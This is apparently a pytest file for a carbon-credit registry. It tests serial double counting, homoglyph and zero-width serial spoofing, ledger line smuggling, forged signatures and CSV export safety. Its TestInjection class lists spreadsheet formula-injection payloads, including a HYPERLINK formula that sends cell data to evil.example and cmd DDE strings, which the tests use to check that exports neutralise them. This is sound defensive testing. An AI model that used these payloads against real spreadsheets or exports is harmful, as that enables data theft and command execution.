"""Attacks on serials, ledger and exports, by name: what a bridge, a spreadsheet or a hurried registry would let pass."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.bound import ASSET, SIGNED, bound, box, signer

from mrv.attest import credential, proof
from mrv.attest.trust import trust_for
from mrv.attest.verify import check
from mrv.errors import AttestationError, MRVError
from mrv.registry import attested
from mrv.registry.binding import check_serials
from mrv.registry.csv_cells import write_csv
from mrv.registry.ledger import Ledger, append, check_ledger, entry_of, load_ledger
from mrv.registry.serials import SerialError, parse

VERRA = "15312-681393912-681394011-VCS-VCU-208-VER-CA-3-929-01012018-31122018-0"
ACR = "ACR-US-192-2010-203-1-50"
LATER = {"ring": box(9, 9), "start": "2012-01-01", "end": "2012-12-31"}
STATEMENT = {"conclusion": {"creditable_t": 100}, "quantities": {"vintages": [{"year": 2010, "issuable_t": 100}]}}


def failing(checks):
    return [check.code for check in checks if check.status == "fails"]


def ledger_of(*others):
    return Ledger(tuple(entry_of(other.document) for other in others))


class TestTheSameTonneTwice:
    """One unit, two credits."""

    @pytest.mark.parametrize(
        "second",
        [
            "ACR-US-192-2010-203-50-99", "ACR-US-192-2010-203-1-1", "ACR-US-192-2010-203-1-9999",
            "ACR-US-192-2010-203-25 to 26", "ACR-CA-192-2010-203-1-50", "ACR-US-192-2012-203-1-50",
        ],
        ids=["shared end", "first unit", "swallowing", "inside, in the other form", "another country", "another vintage"],
    )  # fmt: skip
    def test_overlapping_strings_that_differ(self, second):
        mine = bound(serials=[second], **LATER)
        assert second != ACR
        assert failing(check_ledger(mine.document, ledger_of(bound(serials=[ACR])))) == ["ledger.serials"]

    def test_split_across_one_attestation(self):
        assert failing(check_serials([ACR, "ACR-US-192-2010-203-50-51"], STATEMENT)) == ["binding.serials-distinct"]

    def test_a_block_one_unit_too_long(self):
        assert failing(check_serials(["ACR-US-192-2010-203-1-100"], STATEMENT)) == []
        assert failing(check_serials(["ACR-US-192-2010-203-1-101"], STATEMENT)) == ["binding.serials-quantity"]
        assert failing(check_serials(["ACR-US-192-2010-203-0-100"], STATEMENT)) == ["serial.grammar"]

    def test_a_good_vintage_s_tonnes_sold_as_another_year_s(self):
        assert failing(check_serials(["ACR-US-192-2019-203-1-10"], STATEMENT)) == ["binding.serials-quantity"]

    def test_a_series_sold_again(self):
        series = "ICR-ISL-354-78040-14-R-0-2010"
        mine = bound(serials=[series], **LATER)
        assert "ledger.serials" in failing(check_ledger(mine.document, ledger_of(bound(serials=[series]))))

    def test_the_same_ground_under_another_programme_and_name(self):
        mine = bound(project="renamed", statement={"programme": {"id": "art-trees-2.0"}}, serials=["ACR-US-7-2010-7-1-2"])
        assert failing(check_ledger(mine.document, ledger_of(bound()))) == ["ledger.area"]

    def test_a_boundary_redrawn_by_a_hair(self, tmp_path):
        """Another file, another digest, the same forest."""
        old, new = bound(), bound(ring=[[0, 0], [1, 0], [1, 1.0000001], [0, 1], [0, 0]])
        entry = entry_of(old.document, old.write(tmp_path / "old"))
        checks = check_ledger(new.document, Ledger((entry,)), new.write(tmp_path / "new"))
        assert failing(checks) == ["ledger.area"]

    def test_evidence_withheld_so_that_nobody_can_compare(self):
        assert failing(check_ledger(bound(ring=box(0.5, 0)).document, ledger_of(bound()))) == ["ledger.area"]

    def test_a_stranger_supersedes_what_is_in_the_way(self):
        old = bound(serials=[ACR])
        mine = bound(serials=[ACR], supersedes=[old.digest], seed=2)
        assert failing(check_ledger(mine.document, ledger_of(old))) == ["ledger.serials", "ledger.area"]

    def test_a_stranger_supersedes_an_honest_attestation(self):
        honest = bound()
        assert failing(check_ledger(honest.document, ledger_of(bound(supersedes=[honest.digest], seed=2, **LATER)))) == []

    def test_a_stranger_s_file_in_the_folder(self, tmp_path):
        (tmp_path / "a.json").write_bytes(bound(serials=[ACR], seed=2).data)
        with pytest.raises(AttestationError) as caught:
            load_ledger(tmp_path, trust=trust_for(signer(1), now="2026-01-01T00:00:00Z"))
        assert caught.value.error_code == "ledger.proof"

    def test_a_line_smuggled_into_the_ledger_by_a_project_s_name(self, tmp_path):
        path = tmp_path / "ledger.jsonl"
        append(path, entry_of(bound(project='x"}\n{"schema":"mrv.ledger/1"\u2028\x85').document))
        assert path.read_bytes().count(b"\n") == 1
        assert len(load_ledger(path, trust=trust_for(signer(1), now="2026-01-01T00:00:00Z")).entries) == 1


class TestSerialsThatOnlyLookRight:
    """What a person reads and what a machine compares."""

    @pytest.mark.parametrize(
        ("text", "code"),
        [
            (VERRA[:-1] + "O", "serial.letter-o"),
            (VERRA[:-1] + "о", "serial.characters"),
            (VERRA.replace("681393912", "68139391２"), "serial.digits"),
            (VERRA.replace("-", "‐"), "serial.characters"),
            (VERRA.replace("681394011", "6813940\u200b11"), "serial.characters"),
            (VERRA.replace("681394011", "\u202e110493186"), "serial.characters"),
            (VERRA + " ", "serial.grammar"),
            (VERRA + "\n" + VERRA, "serial.characters"),
            (VERRA.replace("681393912-681394011", "681394011-681393912"), "serial.range"),
            (VERRA.replace("15312-", "-15312-"), "serial.registry"),
            (VERRA.replace("681393912", "-681393912"), "serial.registry"),
        ],
        ids=[
            "letter O", "Cyrillic o", "full-width 2", "another hyphen", "zero-width space", "right to left", "trailing space",
            "two lines", "reversed", "leading dash", "negative",
        ],
    )  # fmt: skip
    def test_refused_by_code(self, text, code):
        with pytest.raises(SerialError) as caught:
            parse(text)
        assert caught.value.error_code == code

    def test_the_whole_check_refuses_them_signed(self):
        for text, code in ((VERRA[:-1] + "O", "serial.letter-o"), ("VCS9819-2014-1233022-1234022", "serial.registry")):
            trust = trust_for(signer(1), now="2026-01-01T00:00:00Z")
            checks = check(bound(serials=[text]).data, trust=trust, now=SIGNED, asset=None, evidence=None)
            assert code in failing(checks)
            assert "proof.valid" not in failing(checks)

    def test_a_full_width_digit_is_refused_before_signing(self):
        with pytest.raises(AttestationError) as caught:
            bound(serials=["ACR-US-192-2010-203-1-５0"])
        assert caught.value.error_code == "schema.value"

    @pytest.mark.parametrize("text", ["1" * 100_000, "CAR-" * 50_000, "1-" * 100_000, "ACR-US-" + "1" * 200 + "-"])
    def test_a_flood_is_refused_at_once(self, text):
        with pytest.raises(SerialError):
            parse(text)


class TestInjection:
    """Exports are opened by spreadsheets, wallets and block explorers."""

    PAYLOADS = (
        '=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "－1+1", "'=1+1",
        "\u200b=1+1", "%0A-1+1", ";=1+1", '"=1+1', "1\n=2",
    )  # fmt: skip

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_no_cell_begins_a_formula(self, payload):
        text = write_csv(["a", "b", "c"], [["x", payload, -7]])
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) == 2
        cell = rows[1][1]
        assert rows[1][2] == "-7"
        assert cell.lstrip("\u200b")[0] not in "=+-@\t\r\n＝＋－＠" or cell.startswith("'")
        assert cell.removeprefix("'") == payload

    @given(st.text(alphabet="=+-@\t\r\n\",;' 1a＝", max_size=8))
    def test_no_semicolon_or_quote_opens_a_second_cell(self, text):
        (row,) = list(csv.reader(io.StringIO(write_csv([], [[text]]), newline="")))[1:] or [[""]]
        assert len(row) == 1

    def test_a_serial_is_no_formula_before_it_is_exported(self):
        for payload in self.PAYLOADS:
            with pytest.raises(SerialError):
                parse(payload)


class TestExportsOfWhatWasNotChecked:
    """A projection is unsigned: it must start from a check, or say that it did not."""

    def test_checks_of_another_attestation(self):
        trust = trust_for(signer(1), now="2026-01-01T00:00:00Z")
        one, two = bound(assets=[ASSET]), bound(assets=[ASSET], creditable=7)
        checks = check(one.data, trust=trust, now=SIGNED, asset=ASSET, evidence=None)
        holding = [entry for entry in checks if entry.status != "fails"]
        for data in (two.data, one.data):
            with pytest.raises(MRVError) as caught:
                attested.by_check(data, holding if data is two.data else checks)
            assert caught.value.error_code in {"export.refused", "statement.schema"}

    def test_a_document_changed_between_check_and_export(self):
        trust = trust_for(signer(1), now="2026-01-01T00:00:00Z")
        one = bound()
        changed = json.loads(one.data)
        changed["credentialSubject"]["statement"]["conclusion"]["creditable_t"] = 10**9
        checks = check(json.dumps(changed).encode(), trust=trust, now=SIGNED, asset=None, evidence=None)
        assert "proof.valid" in failing(checks)
        with pytest.raises(attested.CheckFailed):
            attested.by_check(json.dumps(changed).encode(), checks)

    def test_an_attackers_key(self):
        forged = proof.sign({k: v for k, v in bound().document.items() if k != "proof"}, signer(2), SIGNED)
        trust = trust_for(signer(1), now="2026-01-01T00:00:00Z")
        data = credential.encode(forged)
        with pytest.raises(attested.CheckFailed):
            attested.by_check(data, check(data, trust=trust, now=SIGNED, asset=None, evidence=None))


def test_brackets_do_not_end_the_process_where_the_recursion_limit_was_raised():
    """As py-evm raises it: the parser of the standard library then overflows the stack, in C."""
    code = (
        "import sys; sys.setrecursionlimit(10**6)\n"
        "from mrv.errors import AttestationError\n"
        "from mrv.registry.erc1155 import read_metadata\n"
        "from mrv.registry.footprint import read_geojson\n"
        "from mrv.units import sha256_bytes\n"
        "data = b'[' * 1000000\n"
        "for call in (lambda: read_metadata(data), lambda: read_geojson(data, digest=sha256_bytes(data))):\n"
        "    try:\n        call()\n    except AttestationError as error:\n        print(error.error_code)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert (done.returncode, done.stdout.split()) == (0, ["token.metadata", "footprint.invalid"])
